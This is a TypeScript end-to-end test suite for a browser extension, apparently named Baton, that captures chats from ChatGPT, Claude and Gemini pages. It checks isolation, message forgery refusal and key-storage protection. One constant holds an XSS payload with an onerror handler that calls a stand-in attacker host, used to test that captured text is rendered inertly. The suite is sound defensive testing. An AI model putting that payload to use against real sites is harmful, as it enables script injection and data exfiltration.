/**
 * Capture from chat pages (docs/architecture.md#the-background-by-feature), end to end: the saved pages of ../shared/fixtures/web-pages
 * are served under their real host names (chat-sites.ts), so the real content script runs on
 * them. Native context menus cannot be clicked headless: the tests call the registered click
 * handler (`globalThis.batonCapture.onMenuClick`, test build) with the data Chrome passes.
 */
import fs from 'node:fs';
import path from 'node:path';
import type { Page } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { CHAT_HOSTS, hasOpenssl, startChatSites, type ChatSites, type SitePage } from './chat-sites';
import { expectValid, findKeyMaterial, posts } from './fakes';
import { waitFor } from './harness';
import { readDb, request, storedTurns, textOf } from './pages';
import { openPanelSession, type PanelSession } from './panel-kit';
import { HAS_CHROMIUM, PROD_BUILD_DIR, ROOT, TEST_BUILD_DIR, warnIfNoChromium } from './paths';

warnIfNoChromium('capture.e2e.ts');
const SHARED = path.resolve(ROOT, '../shared/fixtures');
const PAGES = path.join(SHARED, 'web-pages');
const has = fs.existsSync(PAGES);
if (!has) console.warn('skipping: ../shared/fixtures not found');
const OPENSSL = hasOpenssl();
if (!OPENSSL) console.warn('skipping capture.e2e.ts: no openssl to make the test certificate');

const fixture = (f: string) => (has ? fs.readFileSync(path.join(PAGES, f), 'utf8') : '');
const XSS = `<img src=x onerror="window.__batonPwned=1;fetch('https://attacker.test/p')">`;
const QUESTION = 'Write a function to check if a number is prime in TypeScript.';
const escapeHtml = (s: string) =>
  s.replace(/&/g, '&amp;').replace(/</g, '&lt;').replace(/>/g, '&gt;').replace(/"/g, '&quot;');

const SITE_PAGES: SitePage[] = [
  { host: 'chatgpt.com', path: '/c/e2e-code', body: fixture('chatgpt-chat-code.html') },
  // I1: the person's message shows HTML as text (the page escapes it, as chatgpt.com does).
  {
    host: 'chatgpt.com',
    path: '/c/e2e-xss',
    body: fixture('chatgpt-chat-code.html').replace(QUESTION, `${QUESTION} ${escapeHtml(XSS)}`),
  },
  { host: 'claude.ai', path: '/chat/e2e-simple', body: fixture('claude-chat-simple.html') },
  { host: 'gemini.google.com', path: '/app/e2e-simple', body: fixture('gemini-chat-simple.html') },
];

type G = { batonCapture: { onMenuClick(info: unknown, tab: unknown): Promise<void> } };
type ChromeTabs = { tabs: { query(q: object): Promise<{ id: number; windowId: number }[]> } };

describe.skipIf(!HAS_CHROMIUM || !has || !OPENSSL)(
  'capture from chat pages (docs/architecture.md#the-background-by-feature)',
  () => {
    let sites: ChatSites;
    let s: PanelSession;
    const panelRequests: string[] = [];

    beforeAll(async () => {
      sites = await startChatSites(SITE_PAGES);
      s = await openPanelSession(undefined, { launch: { extraArgs: sites.chromiumArgs } });
      s.page.on('request', (r) => panelRequests.push(r.url()));
    });
    afterAll(async () => {
      await s?.close();
      await sites?.close();
    });

    /** Opens a chat page in a new tab and waits until Baton's content script runs in it (its isolated world exists). */
    async function openSite(url: string): Promise<{ page: Page; contentWorld: () => Promise<number> }> {
      const page = await s.browser.context.newPage();
      const cdp = await s.browser.context.newCDPSession(page);
      const worlds: { id: number; name: string; type?: string }[] = [];
      cdp.on('Runtime.executionContextCreated', (e) =>
        worlds.push({
          id: e.context.id,
          name: e.context.name,
          type: (e.context.auxData as { type?: string } | undefined)?.type,
        }),
      );
      await cdp.send('Runtime.enable');
      await page.goto(url, { waitUntil: 'load' });
      const contentWorld = () =>
        waitFor(
          'Baton’s content script',
          () => worlds.findLast((w) => w.type === 'isolated' && w.name === 'Baton')?.id,
        );
      await contentWorld();
      // Evaluates in the content script's world (as the content script), used by the L1 test.
      (page as Page & { inContentScript?: (expr: string) => Promise<unknown> }).inContentScript = async (
        expression: string,
      ) => {
        const r = await cdp.send('Runtime.evaluate', {
          expression,
          contextId: await contentWorld(),
          awaitPromise: true,
          returnByValue: true,
        });
        return r.result.value;
      };
      return { page, contentWorld };
    }

    /** Calls the registered context-menu click handler with what Chrome passes for `page` (the active tab). */
    async function click(page: Page, menuItemId: string): Promise<void> {
      await page.bringToFront();
      await s.browser.evalInWorker(
        async ({ menuItemId, pageUrl }) => {
          const [tab] = await (globalThis as unknown as { chrome: ChromeTabs }).chrome.tabs.query({
            active: true,
            lastFocusedWindow: true,
          });
          // Without the `tabs` permission Chrome gives no tab URL: the handler uses info.pageUrl.
          await (globalThis as unknown as G).batonCapture.onMenuClick(
            { menuItemId, pageUrl, frameId: 0, editable: false },
            { id: tab!.id, windowId: tab!.windowId, index: 0 },
          );
        },
        { menuItemId, pageUrl: page.url() },
      );
    }

    const allPosts = () => s.fakes.all().flatMap((f) => posts(f));
    type StoredConversation = { id: string; source?: { kind: string; url?: string }; lastTarget?: unknown };
    const conversationsNow = async () => (await readDb(s.page)).conversations as unknown as StoredConversation[];

    it('N5 "Continue this chat in…" on chatgpt.com: stored with its source, shown with Claude preselected, nothing sent until Send; then Claude gets a native history', async () => {
      const { page } = await openSite('https://chatgpt.com/c/e2e-code');
      const domBefore = await page.evaluate(() => document.documentElement.outerHTML);
      await click(page, 'baton-chat|anthropic|claude-sonnet-4-5');

      await waitFor('the captured conversation in the side panel', async () => (await s.panel.turns().count()) === 2);
      expect(await s.panel.turnSummary()).toEqual(['user:complete', 'assistant:complete']);
      expect(await s.page.getByLabel('Provider', { exact: true }).inputValue()).toBe('anthropic');
      expect(await s.page.getByLabel('Model', { exact: true }).inputValue()).toBe('claude-sonnet-4-5');
      const id = await s.panel.currentConversationId();
      const conv = (await conversationsNow()).find((c) => c.id === id)!;
      expect(conv.source).toEqual({ kind: 'chatgpt-web', url: 'https://chatgpt.com/c/e2e-code' });
      expect(conv.lastTarget).toEqual({ providerId: 'anthropic', model: 'claude-sonnet-4-5' });
      const turns = await storedTurns(s.page, id);
      expect(turns.map((t) => [t.role, t.origin])).toEqual([
        ['user', undefined],
        ['assistant', { provider: 'chatgpt-web', api: 'web', model: 'gpt-4' }],
      ]);
      expect(textOf(turns[0]!)).toBe(QUESTION);
      expect(textOf(turns[1]!)).toContain(
        "Here's a TypeScript function to check if a number is prime:\n\n```typescript\nfunction isPrime(n: number): boolean {",
      );
      // Nothing is sent until the person sends (N5); R5: the page got no injected UI.
      expect(allPosts()).toEqual([]);
      expect(await page.evaluate(() => document.documentElement.outerHTML)).toBe(domBefore);

      s.fakes.anthropic.enqueue('anthropic-messages', { kind: 'text', text: 'Here it is in Python.' });
      await s.panel.send('Now in Python, please.');
      expect(await s.panel.waitForAnswer(2)).toBe('complete');
      const sent = posts(s.fakes.anthropic, 'anthropic-messages');
      expect(sent).toHaveLength(1);
      expectValid(sent[0]!);
      const body = sent[0]!.body as {
        system?: unknown;
        messages: { role: string; content: string | { type: string; text?: string }[] }[];
      };
      // N5: captured answers stay assistant turns; nothing from the page goes in the system prompt.
      expect(body.messages.map((m) => m.role)).toEqual(['user', 'assistant', 'user']);
      expect(JSON.stringify(body.system ?? '')).not.toContain('isPrime');
      expect(JSON.stringify(body.messages[1]!.content)).toContain('function isPrime(n: number): boolean');
      expect(JSON.stringify(body.messages[2]!.content)).toContain('Now in Python, please.');
      expect(allPosts()).toHaveLength(1);
      await page.close();
    });

    it('I1 a message showing <img src=x onerror=…> is stored as literal text; rendering it executes nothing and fetches nothing', async () => {
      const { page } = await openSite('https://chatgpt.com/c/e2e-xss');
      const before = (await conversationsNow()).length;
      panelRequests.length = 0;
      await click(page, 'baton-chat|anthropic|claude-sonnet-4-5');
      await waitFor('the capture', async () => (await conversationsNow()).length === before + 1);
      const id = await waitFor('the side panel to open it', async () => {
        const cur = await s.panel.currentConversationId();
        return (await conversationsNow()).find((c) => c.id === cur && c.source?.url === 'https://chatgpt.com/c/e2e-xss')
          ? cur
          : undefined;
      });
      const turns = await storedTurns(s.page, id);
      expect(textOf(turns[0]!)).toBe(`${QUESTION} ${XSS}`);
      await waitFor('the literal text on screen', async () =>
        (await s.panel.turns().first().innerText()).includes('onerror='),
      );
      expect(await s.page.evaluate(() => (globalThis as { __batonPwned?: unknown }).__batonPwned)).toBeUndefined();
      expect(await s.page.locator('img[src="x"], [onerror]').count()).toBe(0);
      expect(panelRequests.filter((u) => !u.startsWith('chrome-extension://'))).toEqual([]);
      expect(allPosts()).toHaveLength(1);
      await page.close();
    });

    it('R5 M5 claude.ai and gemini.google.com pages are read by the real content script; the pages get no UI, and page scripts cannot trigger a capture', async () => {
      const { page } = await openSite('https://gemini.google.com/app/e2e-simple');
      const domBefore = await page.evaluate(() => document.documentElement.outerHTML);
      const before = (await conversationsNow()).length;
      // A page script posting messages or dispatching events that look like Baton's gets nothing (M5).
      const pageSide = await page.evaluate(async () => {
        window.postMessage({ type: 'baton.captureRequest', requestId: 'page-12345678' }, '*');
        document.dispatchEvent(new CustomEvent('baton.captureRequest', { detail: { requestId: 'page-12345678' } }));
        window.dispatchEvent(
          new CustomEvent('wxt:content-script-started', { detail: { contentScriptName: 'capture' } }),
        );
        await new Promise((r) => setTimeout(r, 1000));
        const c = (globalThis as { chrome?: { runtime?: { sendMessage?: unknown } } }).chrome;
        return {
          canMessage: typeof c?.runtime?.sendMessage,
          shadowHosts: [...document.querySelectorAll('*')].filter((e) => e.shadowRoot !== null).length,
        };
      });
      expect(pageSide).toEqual({ canMessage: 'undefined', shadowHosts: 0 });
      expect((await conversationsNow()).length).toBe(before);

      await click(page, 'baton-chat|google|gemini-2.5-flash');
      await waitFor('the Gemini capture', async () => (await conversationsNow()).length === before + 1);
      const conv = (await conversationsNow()).find((c) => c.source?.kind === 'gemini-web')!;
      const turns = await storedTurns(s.page, conv.id);
      expect(turns.map((t) => t.role).join(',')).toBe('user,assistant,user,assistant,user,assistant');
      expect(turns[1]!.origin).toEqual({ provider: 'gemini-web', api: 'web', model: 'gemini' });
      expect(textOf(turns[3]!)).toBe('いいえ');
      expect(conv.lastTarget).toEqual({ providerId: 'google', model: 'gemini-2.5-flash' });
      // R5: no UI was injected into the page.
      expect(await page.evaluate(() => document.documentElement.outerHTML)).toBe(domBefore);
      await page.close();
    });

    it('L1 after a CDP stop of the worker, a content-script captureSubmit wakes it and is handled on the first attempt (docs/security.md: refused, as Baton did not ask for it)', async () => {
      const site = await openSite('https://claude.ai/chat/e2e-simple');
      const before = (await conversationsNow()).length;
      await s.browser.stopServiceWorker();
      expect(s.browser.workerStatus()).toBe('stopped');
      const payload = {
        site: 'claude',
        url: 'https://claude.ai/chat/e2e-simple',
        partial: false,
        partialReason: 'n/a',
        messages: [
          { role: 'user', parts: [{ type: 'text', text: 'Claude の html構造をテストするための質問です。' }] },
          { role: 'assistant', parts: [{ type: 'text', text: 'はい' }] },
        ],
      };
      const inContentScript = (site.page as Page & { inContentScript: (expr: string) => Promise<unknown> })
        .inContentScript;
      const reply = (await inContentScript(
        `chrome.runtime.sendMessage(${JSON.stringify({ type: 'captureSubmit', payload })})`,
      )) as { ok: boolean; error?: { code: string; message: string } };
      // The woken worker's capture handler answered on the first attempt: a capture nobody asked for is refused, nothing stored.
      expect(reply).toEqual({
        ok: false,
        error: { code: 'forbidden', message: 'Baton did not ask this page for a capture; nothing was stored.' },
      });
      expect((await conversationsNow()).length).toBe(before);
      // M2 from the same content script: a payload claiming another site is refused.
      const forged = (await inContentScript(
        `chrome.runtime.sendMessage(${JSON.stringify({ type: 'captureSubmit', payload: { ...payload, site: 'chatgpt', url: 'https://chatgpt.com/c/x' } })})`,
      )) as { ok: boolean; error?: { code: string } };
      expect(forged).toMatchObject({ ok: false, error: { code: 'forbidden' } });
      // M1: a content script asking for a privileged type is refused.
      const privileged = (await inContentScript(
        `chrome.runtime.sendMessage({ type: 'listConversations', payload: {} })`,
      )) as { ok: boolean; error?: { code: string } };
      expect(privileged).toMatchObject({ ok: false, error: { code: 'forbidden' } });
      expect(allPosts()).toHaveLength(1);
      await site.page.close();
    });

    it("S1 Baton's content script on chatgpt.com reads no key material from storage.local and cannot read storage.session (vault unlocked with a passphrase)", async () => {
      // Keys for all three providers are saved (beforeAll); a passphrase puts the vault's session secret in storage.session.
      const PASS = 'capture e2e passphrase 9!';
      await request(s.page, 'setPassphrase', { passphrase: PASS });
      try {
        const site = await openSite('https://chatgpt.com/c/e2e-code');
        const inContentScript = (site.page as Page & { inContentScript: (expr: string) => Promise<unknown> })
          .inContentScript;
        const read = (area: 'local' | 'session') =>
          inContentScript(
            `(async () => { try { return JSON.stringify(await chrome.storage.${area}.get(null)); } catch (e) { return 'refused: ' + String(e && e.message || e); } })()`,
          ) as Promise<string>;
        const local = await read('local');
        const session = await read('session');
        expect(findKeyMaterial(local)).toEqual([]);
        expect(findKeyMaterial(session)).toEqual([]);
        // storage.session keeps its default access level (trusted contexts only): a content script is refused.
        expect(session).toMatch(/^refused: /);
        // The worker itself does hold something in storage.session (so the refusal above is not an empty area).
        const inWorker = await s.browser.evalInWorker(
          async () =>
            Object.keys(
              await (
                globalThis as unknown as { chrome: { storage: { session: { get(k: null): Promise<object> } } } }
              ).chrome.storage.session.get(null),
            ).length,
          undefined,
        );
        expect(inWorker).toBeGreaterThan(0);
        await site.page.close();
      } finally {
        await request(s.page, 'removePassphrase', { passphrase: PASS });
      }
    });

    it('M5 N1 the built content script has no window-message, CustomEvent, shadow-DOM or storage code, and runs only on the three sites, top frame', () => {
      for (const dir of [TEST_BUILD_DIR, PROD_BUILD_DIR]) {
        const bundle = fs.readFileSync(path.join(dir, 'capture.js'), 'utf8');
        for (const banned of [
          'addEventListener',
          'postMessage',
          'CustomEvent',
          'dispatchEvent',
          'attachShadow',
          'document.cookie',
          'localStorage',
          'sessionStorage',
          'indexedDB',
          'innerHTML',
          'insertAdjacentHTML',
          'appendChild',
          'createElement',
          'storage.',
        ])
          expect(bundle.includes(banned), `${banned} in ${dir}/capture.js`).toBe(false);
        const manifest = JSON.parse(fs.readFileSync(path.join(dir, 'manifest.json'), 'utf8')) as {
          content_scripts?: unknown;
        };
        expect(manifest.content_scripts).toEqual([
          {
            matches: CHAT_HOSTS.map((h) => `https://${h}/*`),
            js: ['capture.js'],
            all_frames: false,
            run_at: 'document_idle',
          },
        ]);
      }
    });
  },
);
